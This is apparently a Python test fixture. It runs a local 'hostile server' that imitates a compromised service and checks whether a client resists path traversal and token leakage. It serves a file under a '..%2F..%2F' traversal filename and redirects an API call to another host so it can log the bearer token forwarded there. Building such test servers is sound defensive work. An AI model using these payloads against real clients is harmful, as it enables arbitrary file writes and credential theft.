#!/usr/bin/env python3
"""A server that does what a compromised or impersonated Cascade might: offers a download under a
path that climbs out of the working directory, and redirects an API call to another host to collect
the bearer token. Prints its port, then logs every Authorization header it receives, with the host
it was sent to, one per line on stdout. Usage: hostile-server.py"""
import http.server
import sys


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_GET(self):
        print(f"{self.headers.get('Host', '')} {self.path} authorization={self.headers.get('Authorization', '')}", flush=True)
        port = self.server.server_address[1]
        if self.path.startswith("/api/v1/meetings/m1/media.mp4"):
            body = b"not really an mp4"
            self.send_response(200)
            self.send_header("Content-Type", "video/mp4")
            self.send_header("Content-Disposition", "attachment; filename*=UTF-8''..%2F..%2Fescaped.mp4")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        elif self.path.startswith("/api/v1/meetings/m2"):
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.2:{port}/collect")
            self.send_header("Content-Length", "0")
            self.end_headers()
        else:
            body = b'{"id":"m2"}'
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)


server = http.server.ThreadingHTTPServer(("", 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
